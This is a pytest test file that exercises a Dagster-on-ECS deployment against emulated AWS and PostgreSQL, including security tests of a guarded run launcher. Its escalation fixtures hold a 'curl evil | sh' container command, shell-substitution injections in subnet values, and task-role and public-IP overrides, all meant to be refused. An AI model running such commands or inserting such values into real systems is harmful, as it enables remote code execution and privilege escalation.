"""The real launch path of the deployed stack, without an AWS account.

deploy/dagster.yaml (completed by deploy/entrypoint.sh, as the image does) is loaded into a real
DagsterInstance: runs, events and schedules in a fresh PostgreSQL database; ECS, EC2, S3 and
CloudWatch Logs served by moto's server mode over HTTP. The code comes from a real
`dagster code-server start` (the code-server service's command), reached through
deploy/workspace.yaml. A daily_report_job run is launched through the guarded EcsRunLauncher; the
RunTask call must land in the emulated ECS with the run-worker task definition, the `dagster api
execute_run` command, the task definition's environment and the run's tags. Then the test does
what Fargate would: it runs that command with the task's environment and the run must succeed in
PostgreSQL, with the report in the emulated S3 holding the numbers an independent oracle computes
from the landed files. Every process logs in with an RDS IAM token (the test server trusts it).
"""

from __future__ import annotations

import contextlib
import copy
import dataclasses
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import urllib.request
import uuid
from pathlib import Path

import boto3
import pytest
import yaml
from dagster import AssetKey, AssetRecordsFilter, DagsterEventType, DagsterInstance, DagsterRunStatus
from dagster._core.workspace.context import WorkspaceProcessContext
from dagster._core.workspace.load_target import WorkspaceFileTarget
from dagster._daemon.run_coordinator.queued_run_coordinator_daemon import QueuedRunCoordinatorDaemon
from dagster._grpc.client import DagsterGrpcClient
from dagster._serdes import serialize_value
from dagster_aws.ecs import EcsRunLauncher
from dagster_postgres.auth import AwsWifTokenProvider
from moto.ecs.models import ecs_backends
from sqlalchemy.engine import make_url

from pipeline_project.core.contract import report_key
from pipeline_project.ecs.launcher import GuardedEcsRunLauncher
from pipeline_project.storage import open_storage
from pipeline_project_tests.conftest import free_port, land_sample
from pipeline_project_tests.core.reference import quarantined_rows, reference_day, report_numbers
from pipeline_project_tests.test_postgres_instance import PG, postgres_home  # noqa: F401  (fixture)

REPO = Path(__file__).resolve().parents[2]
DEPLOY = REPO / "deploy"
BIN = Path(sys.executable).parent
ACCOUNT = "123456789012"  # moto's account
REGION = "us-east-1"
LOCATION = "pipeline_project"
JOB = "daily_report_job"
DAY = "2025-03-04"
ROWS = 240
# The daemon role's AWS actions (terraform/modules/iam): every call the launcher makes must be one
# of them (test_least_privilege.py also proves each one is used).
LAUNCHER_ACTIONS = {
    "ecs:RunTask",
    "ecs:DescribeTasks",
    "ecs:StopTask",
    "ecs:DescribeTaskDefinition",
    "ecs:TagResource",
    "logs:GetLogEvents",
}


@dataclasses.dataclass
class Cloud:
    """What Terraform would have created, in moto."""

    name: str
    bucket: str
    cluster_arn: str
    subnets: list[str]
    security_group: str
    task_definition_arn: str

    @property
    def family(self) -> str:
        return f"{self.name}-run"


@dataclasses.dataclass
class Stack:
    cloud: Cloud
    home: Path
    instance: DagsterInstance
    workspace: WorkspaceProcessContext
    calls: list[tuple[str, str, dict]]  # (service, operation, params) of every AWS call made in-process


def _aws(service: str):
    # The fixtures' own clients come from a separate session, so the recorder below never sees them.
    return boto3.session.Session(region_name=REGION).client(service)


def _task_environment(bucket: str, db_name: str) -> list[dict]:
    """The run-worker container's plain environment, as Terraform writes it (names per the shared list)."""
    values = {
        "PIPELINE_STORAGE_URL": f"s3://{bucket}",
        "PIPELINE_LOG_FORMAT": "json",
        "PIPELINE_ENVIRONMENT": "test",
        "DAGSTER_PG_HOST": PG["host"],
        "DAGSTER_PG_PORT": str(PG["port"]),
        "DAGSTER_PG_DB": db_name,
        "DAGSTER_PG_USERNAME": PG["user"],
        "DAGSTER_COMPUTE_LOG_BUCKET": bucket,
        "AWS_REGION": REGION,
    }
    return [{"name": k, "value": v} for k, v in values.items()]


def _create_cloud(db_name: str) -> Cloud:
    name = f"pipeline-t{uuid.uuid4().hex[:8]}"
    bucket = f"{name}-data-{ACCOUNT}"
    s3 = _aws("s3")
    s3.create_bucket(Bucket=bucket)
    s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Enabled"})

    ec2 = _aws("ec2")
    vpc = ec2.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
    # As the real VPC must (interface endpoints with private DNS). moto also needs it: its Fargate
    # RunTask reads the new ENI's private DNS name, which it only sets when DNS hostnames are on.
    ec2.modify_vpc_attribute(VpcId=vpc, EnableDnsHostnames={"Value": True})
    subnets = [
        ec2.create_subnet(VpcId=vpc, CidrBlock=f"10.20.{n}.0/24", AvailabilityZone=f"{REGION}{az}")["Subnet"][
            "SubnetId"
        ]
        for n, az in ((1, "a"), (2, "b"))
    ]
    security_group = ec2.create_security_group(GroupName=f"{name}-run", Description="run workers", VpcId=vpc)["GroupId"]

    _aws("logs").create_log_group(logGroupName=f"/ecs/{name}")
    ecs = _aws("ecs")
    cluster_arn = ecs.create_cluster(
        clusterName=name,
        capacityProviders=["FARGATE", "FARGATE_SPOT"],
        settings=[{"name": "containerInsights", "value": "enabled"}],
    )["cluster"]["clusterArn"]
    task_definition_arn = ecs.register_task_definition(
        family=f"{name}-run",
        networkMode="awsvpc",
        requiresCompatibilities=["FARGATE"],
        cpu="1024",
        memory="4096",
        executionRoleArn=f"arn:aws:iam::{ACCOUNT}:role/{name}-execution",
        taskRoleArn=f"arn:aws:iam::{ACCOUNT}:role/{name}-run",
        containerDefinitions=[
            {
                "name": "run",
                "image": f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/pipeline:0123abc",
                "essential": True,
                # moto workaround: moto's RunTask adds up container-level memory and fails with a
                # TypeError when no container sets it (Fargate only needs the task-level memory).
                # A soft reservation is valid on Fargate and changes nothing about the launch.
                "memoryReservation": 512,
                "environment": _task_environment(bucket, db_name),
                "logConfiguration": {
                    "logDriver": "awslogs",
                    "options": {
                        "awslogs-group": f"/ecs/{name}",
                        "awslogs-region": REGION,
                        "awslogs-stream-prefix": "run",
                    },
                },
            }
        ],
    )["taskDefinition"]["taskDefinitionArn"]
    return Cloud(name, bucket, cluster_arn, subnets, security_group, task_definition_arn)


def _daemon_environment(cloud: Cloud, db_name: str) -> dict[str, str]:
    """The daemon's environment: the plain values (no secret: the database login is an IAM token)."""
    env = {e["name"]: e["value"] for e in _task_environment(cloud.bucket, db_name)}
    return {
        **env,
        "DAGSTER_RUN_TASK_DEFINITION": cloud.family,
        "DAGSTER_ECS_CLUSTER": cloud.name,
        "DAGSTER_RUN_SUBNETS": ",".join(cloud.subnets),
        "DAGSTER_RUN_SECURITY_GROUP": cloud.security_group,
    }


def _entrypoint(home: Path, env: dict[str, str], *command: str) -> subprocess.CompletedProcess:
    base = {"PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}", "HOME": os.environ.get("HOME", "/tmp")}
    return subprocess.run(
        ["bash", str(DEPLOY / "entrypoint.sh"), *command],
        env={**base, "DAGSTER_HOME": str(home), **env},
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.fixture(scope="module")
def code_server(tmp_path_factory):
    """The code-server service's command, on a free loopback port instead of 0.0.0.0:4000."""
    home = tmp_path_factory.mktemp("code_server_home")
    (home / "dagster.yaml").write_text("telemetry:\n  enabled: false\n")
    port = free_port()
    log = (home / "code-server.log").open("w")
    process = subprocess.Popen(
        [str(BIN / "dagster"), "code-server", "start", "-h", "127.0.0.1", "-p", str(port)]
        + ["-m", "pipeline_project.definitions", "--location-name", LOCATION],
        cwd=REPO,
        env={**os.environ, "DAGSTER_HOME": str(home)},
        stdout=log,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    try:
        client = DagsterGrpcClient(port=port, host="127.0.0.1")
        deadline = time.monotonic() + 120
        while True:
            with contextlib.suppress(Exception):
                client.ping("")
                break
            if process.poll() is not None or time.monotonic() > deadline:
                pytest.fail(f"the code server did not start: {(home / 'code-server.log').read_text()[-2000:]}")
            time.sleep(0.5)
        yield port
    finally:
        os.killpg(process.pid, signal.SIGTERM)
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
        log.close()


@pytest.fixture
def db_name(postgres_home) -> str:  # noqa: F811  (the imported fixture)
    """The fresh database test_postgres_instance's fixture creates (and drops afterwards)."""
    config = yaml.safe_load((postgres_home / "dagster.yaml").read_text())
    return config["storage"]["postgres"]["postgres_db"]["db_name"]


def _moto_api(endpoint: str, action: str, body: dict) -> None:
    request = urllib.request.Request(
        f"{endpoint}/moto-api/state-manager/{action}", json.dumps(body).encode(), method="POST"
    )
    with urllib.request.urlopen(request, timeout=10):
        pass


@pytest.fixture
def tasks_stay_running(s3_endpoint):
    """moto walks a task from RUNNING towards STOPPED one step per DescribeTasks; here a task stays
    RUNNING, as on Fargate while its container runs (moto's own state-manager API, over HTTP)."""
    transition = {"progression": "manual", "times": 10**6}
    _moto_api(s3_endpoint, "set-transition", {"model_name": "ecs::task", "transition": transition})
    yield
    _moto_api(s3_endpoint, "unset-transition", {"model_name": "ecs::task"})


@pytest.fixture
def stack(s3_endpoint, tasks_stay_running, db_name, code_server, tmp_path, monkeypatch):
    monkeypatch.setenv("AWS_REGION", REGION)
    cloud = _create_cloud(db_name)
    env = _daemon_environment(cloud, db_name)

    # The image: DAGSTER_HOME holds deploy/dagster.yaml and deploy/workspace.yaml; the entrypoint
    # completes the instance file, then execs the daemon's command (here: its --version).
    home = tmp_path / "instance_home"
    home.mkdir()
    shutil.copy(DEPLOY / "dagster.yaml", home / "dagster.yaml")
    shutil.copy(DEPLOY / "workspace.yaml", home / "workspace.yaml")
    started = _entrypoint(home, env, "dagster-daemon", "--version")
    assert started.returncode == 0, started.stderr
    assert "dagster-daemon" in started.stdout

    # The deployed workspace file, with the Cloud Map name swapped for the loopback code server.
    workspace = yaml.safe_load((home / "workspace.yaml").read_text())
    workspace["load_from"][0]["grpc_server"].update(host="127.0.0.1", port=code_server)
    local_workspace = tmp_path / "workspace.yaml"
    local_workspace.write_text(yaml.safe_dump(workspace))

    # This process plays the daemon.
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("DAGSTER_HOME", str(home))

    calls: list[tuple[str, str, dict]] = []

    def record(params, model, **_):
        service = model.service_model.endpoint_prefix
        # S3 uploads carry file objects: keep what names the object.
        if service == "s3":
            params = {k: params[k] for k in ("Bucket", "Key", "Prefix", "VersionId", "CopySource") if k in params}
        calls.append((service, model.name, copy.deepcopy(params)))

    events = boto3._get_default_session().events
    events.register("before-parameter-build", record, unique_id="test-run-launcher-recorder")
    try:
        with (
            DagsterInstance.from_config(str(home)) as instance,
            WorkspaceProcessContext(instance, WorkspaceFileTarget(paths=[str(local_workspace)])) as context,
        ):
            yield Stack(cloud, home, instance, context, calls)
    finally:
        events.unregister("before-parameter-build", unique_id="test-run-launcher-recorder")


def _create_run(stack: Stack, day: str, tags: dict[str, str] | None = None):
    """A run of daily_report_job for `day`, created from the code server's job the way the sensor
    daemon creates its runs (remote job origin and python origin from the code location)."""
    request = stack.workspace.create_request_context()
    location = request.get_code_location(LOCATION)
    (repository,) = location.get_repositories().values()
    remote_job = repository.get_full_job(JOB)
    plan = location.get_execution_plan(remote_job, {}, step_keys_to_execute=None, known_state=None)
    return stack.instance.create_run(
        job_name=JOB,
        run_id=None,
        run_config={},
        status=DagsterRunStatus.NOT_STARTED,
        tags={**(remote_job.run_tags or {}), "dagster/partition": day, "pipeline/trigger": "sensor", **(tags or {})},
        root_run_id=None,
        parent_run_id=None,
        step_keys_to_execute=None,
        execution_plan_snapshot=plan.execution_plan_snapshot,
        job_snapshot=remote_job.job_snapshot,
        parent_job_snapshot=remote_job.parent_job_snapshot,
        asset_selection=None,
        asset_check_selection=None,
        resolved_op_selection=None,
        op_selection=None,
        remote_job_origin=remote_job.get_remote_origin(),
        job_code_origin=remote_job.get_python_origin(),
        asset_graph=repository.asset_graph,
    )


def _run_task_calls(stack: Stack) -> list[dict]:
    return [params for service, operation, params in stack.calls if (service, operation) == ("ecs", "RunTask")]


def _describe_task(cloud: Cloud, task_arn: str) -> dict:
    (task,) = _aws("ecs").describe_tasks(cluster=cloud.name, tasks=[task_arn], include=["TAGS"])["tasks"]
    return task


def _fargate_environment(stack: Stack, task: dict) -> dict[str, str]:
    """The container's environment on Fargate: the task definition's values (it has no secrets),
    the overrides' values, and what the platform adds. AWS_ENDPOINT_URL and the static keys stand in
    for the VPC endpoints and the task role; DAGSTER_HOME and PATH come from the image."""
    definition = _aws("ecs").describe_task_definition(taskDefinition=task["taskDefinitionArn"])["taskDefinition"]
    (container,) = [c for c in definition["containerDefinitions"] if c["name"] == "run"]
    assert "secrets" not in container
    (override,) = task["overrides"]["containerOverrides"]
    return {
        "PATH": f"{BIN}{os.pathsep}/usr/bin:/bin",
        "HOME": os.environ.get("HOME", "/tmp"),
        "DAGSTER_HOME": str(stack.home),
        "AWS_DEFAULT_REGION": REGION,
        "AWS_ENDPOINT_URL": os.environ["AWS_ENDPOINT_URL"],
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        **{e["name"]: e["value"] for e in container.get("environment", [])},
        **{e["name"]: e["value"] for e in override.get("environment", [])},
    }


def _die(deployed: Stack, task_arn: str, exit_code: int) -> None:
    """What ECS reports for a task whose container was killed (a Spot interruption, an OOM kill).
    Clients cannot set an exit code through the ECS API, so it goes into moto's model directly."""
    modelled = ecs_backends[ACCOUNT][REGION].tasks[deployed.cloud.name][task_arn]
    for container in modelled.containers:
        container.exitCode = exit_code
        container.last_status = "STOPPED"
    _aws("ecs").stop_task(cluster=deployed.cloud.name, task=task_arn, reason="OutOfMemoryError: container killed")


def test_deploy_yaml_is_the_production_instance(stack: Stack):
    instance, cloud = stack.instance, stack.cloud
    assert type(instance.run_storage).__name__ == "PostgresRunStorage"
    assert type(instance.event_log_storage).__name__ == "PostgresEventLogStorage"
    assert type(instance.schedule_storage).__name__ == "PostgresScheduleStorage"
    assert type(instance.compute_log_manager).__name__ == "S3ComputeLogManager"
    assert instance.compute_log_manager._s3_bucket == cloud.bucket
    assert instance.compute_log_manager._s3_prefix == "compute-logs"

    launcher = instance.run_launcher
    assert type(launcher) is GuardedEcsRunLauncher and isinstance(launcher, EcsRunLauncher)
    assert launcher.task_definition == cloud.task_definition_arn  # the family, resolved to its ARN
    assert launcher.container_name == "run"
    assert launcher.use_current_ecs_task_config is False
    assert launcher.secrets_tags == [] and launcher.secrets == []
    assert launcher.run_resources == {}  # sizes come from the run's tags or the task definition
    assert launcher.run_task_kwargs["cluster"] == cloud.name
    assert launcher.run_task_kwargs["networkConfiguration"] == {
        "awsvpcConfiguration": {
            "subnets": cloud.subnets,
            "securityGroups": [cloud.security_group],
            "assignPublicIp": "DISABLED",
        }
    }
    assert [s["capacityProvider"] for s in launcher.run_task_kwargs["capacityProviderStrategy"]] == [
        "FARGATE_SPOT",
        "FARGATE",
    ]

    coordinator = instance.run_coordinator
    assert type(coordinator).__name__ == "QueuedRunCoordinator"
    queue = instance.get_concurrency_config().run_queue_config
    assert queue.max_concurrent_runs == 10
    assert {"key": "dagster/partition", "value": {"applyLimitPerUniqueValue": True}, "limit": 1} in (
        queue.tag_concurrency_limits
    )

    assert launcher.supports_resume_run and launcher.supports_check_run_worker_health
    assert instance.run_monitoring_enabled
    assert instance.run_monitoring_start_timeout_seconds == 300
    # Resume is supported but off: see deploy/dagster.yaml (the RUN_DATE task's role has no ECS
    # permission, and every process that loads this instance would build the launcher).
    assert instance.run_monitoring_max_resume_run_attempts == 0
    assert instance.run_retries_enabled and instance.run_retries_max_retries == 2
    assert instance.run_retries_retry_on_asset_or_op_failure is False
    assert not instance.telemetry_enabled

    # No password anywhere: each storage mints an RDS IAM token for its connections, for the
    # task's database user, from the task role's credentials; run workers get the same config.
    for storage in (instance.run_storage, instance.event_log_storage, instance.schedule_storage):
        provider = storage._token_provider
        assert type(provider) is AwsWifTokenProvider
        assert (provider._hostname, provider._port, provider._username, provider._region) == (
            PG["host"],
            PG["port"],
            PG["user"],
            REGION,
        )
        assert make_url(storage.postgres_url).password is None
    config = yaml.safe_load((stack.home / "dagster.yaml").read_text())["storage"]["postgres"]
    assert "password" not in config["postgres_db"]
    assert config["auth_provider"] == {"aws_wif": {"region": {"env": "AWS_REGION"}}}
    ref = serialize_value(instance.get_ref())  # what run workers receive
    assert "aws_wif" in ref and "password" not in ref


def test_launch_through_ecs_then_run_the_task_like_fargate(stack: Stack):
    cloud, instance = stack.cloud, stack.instance
    lake = open_storage(f"s3://{cloud.bucket}")
    files = land_sample(lake, DAY, rows=ROWS)
    run = _create_run(stack, DAY)
    instance.launch_run(run.run_id, stack.workspace.create_request_context())

    # The RunTask request, as the launcher sent it.
    (request,) = _run_task_calls(stack)
    assert request["taskDefinition"] == cloud.task_definition_arn
    assert request["cluster"] == cloud.name
    assert request["networkConfiguration"]["awsvpcConfiguration"] == {
        "subnets": cloud.subnets,
        "securityGroups": [cloud.security_group],
        "assignPublicIp": "DISABLED",
    }
    assert "launchType" not in request and request["capacityProviderStrategy"][0]["capacityProvider"] == "FARGATE_SPOT"
    assert len(json.dumps(request["overrides"])) < 8192  # the RunTask limit on overrides

    # ... and the task as the emulated ECS holds it.
    run = instance.get_run_by_id(run.run_id)
    assert run.status == DagsterRunStatus.STARTING
    task = _describe_task(cloud, run.tags["ecs/task_arn"])
    assert run.tags["ecs/cluster"] == cloud.cluster_arn == task["clusterArn"]
    assert task["taskDefinitionArn"] == cloud.task_definition_arn
    assert task["lastStatus"] == "RUNNING"
    assert task["capacityProviderName"] == "FARGATE_SPOT"
    (override,) = task["overrides"]["containerOverrides"]
    assert override["name"] == "run"
    command = override["command"]
    assert command[:3] == ["dagster", "api", "execute_run"]
    args = json.loads(command[3])
    assert args["pipeline_run_id"] == run.run_id
    # An untagged run gets no size override: the run task definition's size (the first size tier).
    assert "cpu" not in task["overrides"] and "memory" not in task["overrides"]
    assert "cpu" not in override and "memory" not in override
    # No environment or secret in the overrides: the environment is the task definition's.
    assert "environment" not in override and "secrets" not in override
    tags = {t["key"]: t["value"] for t in task["tags"]}
    assert tags["dagster/run_id"] == run.run_id
    assert tags["dagster/job_name"] == JOB
    assert tags["dagster/partition"] == DAY and tags["pipeline/trigger"] == "sensor"
    # The ENI the task got is in a run subnet with the run security group.
    details = {d["name"]: d["value"] for d in task["attachments"][0]["details"]}
    assert details["subnetId"] in cloud.subnets
    (eni,) = _aws("ec2").describe_network_interfaces(NetworkInterfaceIds=[details["networkInterfaceId"]])[
        "NetworkInterfaces"
    ]
    assert [g["GroupId"] for g in eni["Groups"]] == [cloud.security_group]

    # Health as run monitoring sees it: the task is running.
    assert instance.run_launcher.check_run_worker_health(run).status.value == "RUNNING"
    actions = {f"{service}:{operation}" for service, operation, _ in stack.calls if service != "s3"}
    assert actions <= LAUNCHER_ACTIONS, actions - LAUNCHER_ACTIONS

    # What Fargate does next: run the container's command with the task's environment.
    env = _fargate_environment(stack, task)
    assert "DAGSTER_PG_PASSWORD" not in env
    done = subprocess.run(command, env=env, cwd=REPO, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]

    run = instance.get_run_by_id(run.run_id)
    assert run.status == DagsterRunStatus.SUCCESS
    (record,) = instance.fetch_materializations(
        AssetRecordsFilter(asset_key=AssetKey("daily_report"), asset_partitions=[DAY]), limit=10
    ).records
    assert record.run_id == run.run_id
    report = json.loads(lake.read_bytes(report_key(DAY)))
    assert report["run_id"] == run.run_id
    assert report["records"]["read"] == ROWS
    expected = reference_day(files.items())
    expected_rows = expected.pop("rejected_rows")
    assert report_numbers(report) == expected
    assert quarantined_rows(lake.read_bytes(f"quarantine/{DAY}/rejected_rows.jsonl"), DAY) == expected_rows
    # The step's logs went to the compute-log prefix, where the UI reads them.
    logs = _aws("s3").list_objects_v2(Bucket=cloud.bucket, Prefix=f"compute-logs/storage/{run.run_id}/")
    assert logs.get("KeyCount", 0) > 0


def test_run_tags_size_the_task(stack: Stack):
    run = _create_run(stack, "2025-03-05", tags={"ecs/cpu": "4096", "ecs/memory": "16384"})
    stack.instance.launch_run(run.run_id, stack.workspace.create_request_context())
    run = stack.instance.get_run_by_id(run.run_id)
    task = _describe_task(stack.cloud, run.tags["ecs/task_arn"])
    assert (task["overrides"]["cpu"], task["overrides"]["memory"]) == ("4096", "16384")
    (override,) = task["overrides"]["containerOverrides"]
    assert (override["cpu"], override["memory"]) == (4096, 16384)


def test_queue_launches_one_run_per_partition_at_a_time(stack: Stack):
    runs = [_create_run(stack, day) for day in ("2025-03-06", "2025-03-06", "2025-03-07")]
    request = stack.workspace.create_request_context()
    for run in runs:
        stack.instance.submit_run(run.run_id, request)
    assert {stack.instance.get_run_by_id(r.run_id).status for r in runs} == {DagsterRunStatus.QUEUED}

    list(QueuedRunCoordinatorDaemon(interval_seconds=1).run_iteration(stack.workspace))

    status = [stack.instance.get_run_by_id(r.run_id).status for r in runs]
    assert status == [DagsterRunStatus.STARTING, DagsterRunStatus.QUEUED, DagsterRunStatus.STARTING]
    tasks = _aws("ecs").list_tasks(cluster=stack.cloud.name)["taskArns"]
    assert sorted(tasks) == sorted(stack.instance.get_run_by_id(runs[i].run_id).tags["ecs/task_arn"] for i in (0, 2))


def test_entrypoint_fills_in_only_safe_values(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    template = (DEPLOY / "dagster.yaml").read_text()
    env = {"DAGSTER_RUN_SUBNETS": "subnet-0a1b, subnet-2c3d", "DAGSTER_RUN_SECURITY_GROUP": "sg-0123"}

    # The daemon refuses to start without the run tasks' network settings.
    (home / "dagster.yaml").write_text(template)
    refused = _entrypoint(home, {"DAGSTER_RUN_SUBNETS": "subnet-0a1b"}, "dagster-daemon", "run")
    assert refused.returncode == 1
    assert "DAGSTER_RUN_SECURITY_GROUP not set" in refused.stderr
    assert (home / "dagster.yaml").read_text() == template

    # Other commands start with the file as it is.
    other = _entrypoint(home, {}, "echo", "started")
    assert (other.returncode, other.stdout) == (0, "started\n")
    assert (home / "dagster.yaml").read_text() == template

    # Values are data, never shell: anything but AWS ids is refused and nothing runs.
    marker = tmp_path / "pwned"
    for bad in (f"subnet-1,$(touch {marker})", f"subnet-1`touch {marker}`", "subnet-1 subnet-2", "subnet-1\nx: y"):
        refused = _entrypoint(home, {**env, "DAGSTER_RUN_SUBNETS": bad}, "dagster-daemon", "run")
        assert refused.returncode == 1 and "must be comma-separated AWS ids" in refused.stderr
        assert not marker.exists()
        assert (home / "dagster.yaml").read_text() == template

    rendered = _entrypoint(home, env, "true")
    assert rendered.returncode == 0, rendered.stderr
    config = yaml.safe_load((home / "dagster.yaml").read_text())
    vpc = config["run_launcher"]["config"]["run_task_kwargs"]["networkConfiguration"]["awsvpcConfiguration"]
    assert vpc == {
        "subnets": ["subnet-0a1b", "subnet-2c3d"],
        "securityGroups": ["sg-0123"],
        "assignPublicIp": "DISABLED",
    }
    # Dagster's own {env: ...} references are untouched.
    assert config["storage"]["postgres"]["postgres_db"]["username"] == {"env": "DAGSTER_PG_USERNAME"}
    # Rendering again is a no-op.
    once = (home / "dagster.yaml").read_text()
    assert _entrypoint(home, {}, "true").returncode == 0
    assert (home / "dagster.yaml").read_text() == once


# A run's tags are set by whoever launches it (UI, GraphQL, a sensor). Each of these would reach
# RunTask through dagster_aws and change what the task runs, as whom, or where.
ESCALATIONS = {
    "ecs/run_task_kwargs": json.dumps(
        {"networkConfiguration": {"awsvpcConfiguration": {"subnets": ["subnet-public"], "assignPublicIp": "ENABLED"}}}
    ),
    "ecs/task_overrides": json.dumps({"taskRoleArn": f"arn:aws:iam::{ACCOUNT}:role/pipeline-execution"}),
    "ecs/container_overrides": json.dumps({"command": ["sh", "-c", "curl evil | sh"]}),
    "ecs/ephemeral_storage": "200",
    "ecs/task_definition": "arn:aws:ecs:us-east-1:123456789012:task-definition/other:1",
}


@pytest.mark.security
@pytest.mark.parametrize(("tag", "value"), sorted(ESCALATIONS.items()) + [("ecs/cpu", "4096;rm"), ("ecs/memory", "0")])
def test_the_queue_refuses_a_run_that_would_escalate_and_starts_no_task(stack: Stack, tag, value):
    day = "2025-03-08"
    refused = _create_run(stack, day, tags={tag: value})
    request = stack.workspace.create_request_context()
    stack.instance.submit_run(refused.run_id, request)
    list(QueuedRunCoordinatorDaemon(interval_seconds=1).run_iteration(stack.workspace))

    refused = stack.instance.get_run_by_id(refused.run_id)
    assert refused.status == DagsterRunStatus.FAILURE
    assert _run_task_calls(stack) == [] and _aws("ecs").list_tasks(cluster=stack.cloud.name)["taskArns"] == []
    errors = [
        e.dagster_event.engine_event_data.error.message
        for e in stack.instance.all_logs(refused.run_id, of_type=DagsterEventType.ENGINE_EVENT)
        if e.dagster_event.engine_event_data.error
    ]
    (reason,) = [m for m in errors if "refused" in m]
    assert reason.startswith(f"pipeline_project.ecs.guard.EscalationRefused: run refused: its tag {tag} "), reason
    assert "ecs/task_arn" not in refused.tags

    # The same run without the tag, and a run with the sizing tags, are launched as usual.
    for tags in ({}, {"ecs/cpu": "2048", "ecs/memory": "8192"}):
        run = _create_run(stack, day, tags=tags)
        stack.instance.submit_run(run.run_id, stack.workspace.create_request_context())
        list(QueuedRunCoordinatorDaemon(interval_seconds=1).run_iteration(stack.workspace))
        run = stack.instance.get_run_by_id(run.run_id)
        assert run.status == DagsterRunStatus.STARTING
        assert _describe_task(stack.cloud, run.tags["ecs/task_arn"])["lastStatus"] == "RUNNING"
        _aws("ecs").stop_task(cluster=stack.cloud.name, task=run.tags["ecs/task_arn"])
        stack.instance.report_run_failed(run)  # frees the day's concurrency slot for the next one


def _step_overrides(stack: Stack, run, days: int, shards: int) -> dict:
    """What the ecs_executor asks RunTask to override for a sharded run's publish step, the step
    that knows the most (every shard's task and scan): its command, and its args compressed in
    the environment (dagster_aws's EcsStepHandler), for `days` days of `shards` shards."""
    from dagster._core.execution.plan.outputs import StepOutputHandle
    from dagster._core.execution.plan.state import KnownExecutionState
    from dagster._core.execution.retries import RetryMode
    from dagster._grpc.types import ExecuteStepArgs

    keys = [f"d202503{day + 1:02d}_{shard:04d}" for day in range(days) for shard in range(shards)]
    ready = {StepOutputHandle("daily_report.plan", "plans")}
    ready |= {StepOutputHandle("daily_report.plan", "tasks", key) for key in keys}
    ready |= {StepOutputHandle(f"daily_report.scan_shard_files[{key}]", "result") for key in keys}
    known = KnownExecutionState(dynamic_mappings={"daily_report.plan": {"tasks": keys}}, ready_outputs=ready)
    args = ExecuteStepArgs(
        job_origin=run.job_code_origin,
        run_id=run.run_id,
        step_keys_to_execute=["daily_report.publish"],
        instance_ref=stack.instance.get_ref(),
        retry_mode=RetryMode.DISABLED,
        known_state=known,
        should_verify_step=True,
        print_serialized_events=True,
    )
    environment = [{"name": e["name"], "value": e["value"]} for e in args.get_command_env()]
    command = list(args.get_command_args(skip_serialized_namedtuple=True))
    return {
        "containerOverrides": [{"name": "run", "command": command, "environment": environment}],
        "cpu": "2048",
        "memory": "8192",
    }


@pytest.mark.orchestration
def test_runtask_overrides_stay_under_the_limit_for_the_largest_plan(stack: Stack):
    """The run's overrides do not grow with its days; a step's grow with the run's shards. A
    backfill batch of PIPELINE_BACKFILL_BATCH_DAYS days of 20 shards each fits, and a plan that
    would not fit fails before RunTask, naming the limit and the settings."""
    from pipeline_project.ecs.guard import OVERRIDES_LIMIT, OverridesTooLarge, check_overrides_size
    from pipeline_project.settings import SETTINGS

    batch_days = int(SETTINGS["PIPELINE_BACKFILL_BATCH_DAYS"].default)
    run = _create_run(stack, DAY)
    stack.instance.launch_run(run.run_id, stack.workspace.create_request_context())
    (request,) = _run_task_calls(stack)
    run_size = check_overrides_size(request["overrides"])
    largest = check_overrides_size(_step_overrides(stack, run, batch_days, 20), what="a step")
    one_day = check_overrides_size(_step_overrides(stack, run, 1, 20), what="a step")
    assert run_size < OVERRIDES_LIMIT and one_day < largest < OVERRIDES_LIMIT
    # Where it stops fitting: shards per run (days x shards), 20 shards a day.
    days = batch_days
    while len(json.dumps(_step_overrides(stack, run, days + 1, 20), separators=(",", ":"))) <= OVERRIDES_LIMIT:
        days += 1
    with pytest.raises(OverridesTooLarge) as refused:
        check_overrides_size(_step_overrides(stack, run, days + 1, 20), what="a step")
    assert str(refused.value).startswith("a step's ECS task overrides are ")
    assert str(refused.value).endswith(
        f", over RunTask's {OVERRIDES_LIMIT}: lower PIPELINE_BACKFILL_BATCH_DAYS or raise PIPELINE_SHARD_BYTES "
        "so a run holds fewer shards."
    )
    print(
        f"RunTask overrides: run {run_size} characters; publish step of {batch_days} days x 20 shards {largest},"
        f" of 1 day x 20 shards {one_day}; the limit is reached past {days} days x 20 shards"
    )
